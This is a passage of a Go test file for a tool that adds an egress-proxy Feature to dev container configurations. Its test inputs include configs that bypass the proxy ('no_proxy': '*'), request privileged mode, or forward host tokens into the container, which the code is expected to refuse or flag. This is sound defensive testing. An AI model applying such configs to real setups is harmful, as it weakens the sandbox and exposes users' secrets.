		}
	}
}

func TestDevContainerLeavesWhatItCannotChange(t *testing.T) {
	for text, want := range map[string]error{
		`{"containerEnv": {"http_proxy": "http://proxy.corp.example:8080"}}`: &integrations.ConflictError{},
		`{"remoteEnv": {"no_proxy": "*"}}`:                                   &integrations.ConflictError{},
		`{"features": {"./egressd": {"mode": "transparent"}}}`:               &integrations.ConflictError{},
		`{"runArgs": "--init"}`:                                              &integrations.ShapeError{},
		`{"runArgs": [], "runArgs": []}`:                                     &integrations.ShapeError{},
		`{"features": ["./egressd"]}`:                                        &integrations.ShapeError{},
		`["image"]`:                                                          &integrations.ShapeError{},
		`{"image": }`:                                                        &integrations.ShapeError{},
		`{"mounts": {"source": "cache"}}`:                                    &integrations.ShapeError{},
		`{"image": "base"} {"privileged": true}`:                             &integrations.ShapeError{},
	} {
		_, err := Merge(workspace(t, text))
		if reflect.TypeOf(err) != reflect.TypeOf(want) {
			t.Errorf("%s: %v", text, err)
		}
	}
}

func TestDevContainerNeedsAPlaceThatNobodyInsideWrites(t *testing.T) {
	d := Options{Folder: t.TempDir(), SocketFolder: "/run/egressd/web", Socket: "enter.sock"}
	var shape *integrations.ShapeError
	if _, err := Merge(d); !errors.As(err, &shape) {
		t.Errorf("without a dev container: %v", err)
	}
	writeFile(t, filepath.Join(d.Folder, ".devcontainer.json"), `{"image": "base"}`)
	var boundary *BoundaryError
	if _, err := Merge(d); !errors.As(err, &boundary) || !strings.Contains(boundary.Instead, "mv ") {
		t.Errorf("with one that can be hidden by another: %v", err)
	}
}

func TestDevContainerThatCaptures(t *testing.T) {
	d := workspace(t, `{"image": "base"}`)
	d.Captured, d.Program, d.Socket, d.Variables = true, "", "enter.sock", nil
	plan, err := Merge(d)
	if err != nil {
		t.Fatal(err)
	}
	text := string(plan.File.New)
	for _, want := range []string{`"--cap-add=NET_ADMIN"`, `"mode": "transparent"`} {
		if !strings.Contains(text, want) {
			t.Errorf("there is no %s:\n%s", want, text)
		}
	}
	if strings.Contains(text, "NET_RAW") || strings.Contains(text, "/usr/local/bin") {
		t.Errorf("it says more than that:\n%s", text)
	}
	writeFile(t, plan.File.Path, text)
	if again, err := Merge(d); err != nil || !again.File.Same() {
		t.Errorf("a second time changes it: %v", err)
	}
	writeFile(t, plan.File.Path, `{"image": "base", "containerUser": "node"}`)
	var boundary *BoundaryError
	if _, err := Merge(d); !errors.As(err, &boundary) {
		t.Errorf("by a user who cannot: %v", err)
	}
	d.Captured = false
	writeFile(t, plan.File.Path, text)
	if _, err := Merge(d); !errors.As(err, &boundary) {
		t.Errorf("once more without: %v", err)
	}
}

func TestDevContainerNotes(t *testing.T) {
	for text, want := range map[string]string{
		`{"build": {"dockerfile": "../Dockerfile"}}`:                          "lies outside of .devcontainer",
		`{"build": {"dockerfile": "Dockerfile", "context": ".."}}`:            "lies outside of .devcontainer",
		`{"dockerFile": "${localWorkspaceFolder}/Dockerfile"}`:                "lies outside of .devcontainer",
		`{"image": "base", "appPort": 3000}`:                                  "appPort publishes nothing",
		`{"image": "base", "runArgs": ["-e", "A_TOKEN"]}`:                     "the container gets A_TOKEN of your environment",
		`{"image": "base", "remoteEnv": {"A": "${localEnv:A_TOKEN}"}}`:        "the container gets A_TOKEN of your environment",
		`{"image": "base", "runArgs": ["--env=${localEnv:NO:A_TOKEN}"]}`:      "the container gets A_TOKEN of your environment",
		`{"image": "base", "runArgs": ["--env-file=.devcontainer/e"]}`:        "the container gets A_TOKEN of your environment",
		`{"image": "base", "runArgs": ["--env-file=.devcontainer/bom"]}`:      "the container gets A_TOKEN of your environment",
		`{"image": "base", "runArgs": ["-eA_TOKEN=x"]}`:                       "is not held",
		`{"build": {"dockerfile": "Dockerfile"}, "postStartCommand": "true"}`: "is not held",
	} {
		d := workspace(t, text)
		d.Environ = append(d.Environ, "A_TOKEN=x")
		d.Trust = append(d.Trust, filepath.Join(d.Folder, "Dockerfile"))
		for _, folder := range []string{".", ".devcontainer"} {
			writeFile(t, filepath.Join(d.Folder, folder, "Dockerfile"), "FROM base\n")
		}
		writeFile(t, filepath.Join(d.Folder, ".devcontainer", "e"), "A=b\n# c\n  A_TOKEN\r\nB_TOKEN\n")
		writeFile(t, filepath.Join(d.Folder, ".devcontainer", "bom"), "\ufeffA_TOKEN")
		plan, err := Merge(d)
		if err != nil {
			t.Fatal(err)
		}
		all := strings.Join(plan.Notes, "\n")
		further := strings.Count(all, "\n")
		if inPlace := strings.Contains(text, "../Dockerfile") || strings.Contains(text, "}/Dockerfile"); inPlace != strings.Contains(all, "no program in the container can rename") {
			t.Errorf("%s: %q", text, all)
		} else if inPlace {
			further--
		}
		if !strings.Contains(all, want) || further > 1 || (want == "is not held") != (further == 0) {
			t.Errorf("%s: %q", text, all)
		}
	}
}

// The Feature refuses what the table refuses.
func TestFeatureKnowsTheRefusedCapabilities(t *testing.T) {
	var refused []string
	for _, c := range boundary.Capabilities() {
		if boundary.JudgeCapability(c.Name, true) != "" {
			refused = append(refused, strconv.Itoa(c.Bit))
		}
	}
	text, err := source.ReadFile("src/egressd/entrypoint")
	if want := "for refused in " + strings.Join(refused, " ") + "; do"; err != nil || !strings.Contains(string(text), want) {
		t.Errorf("%v: the entrypoint does not have %q", err, want)
	}
}
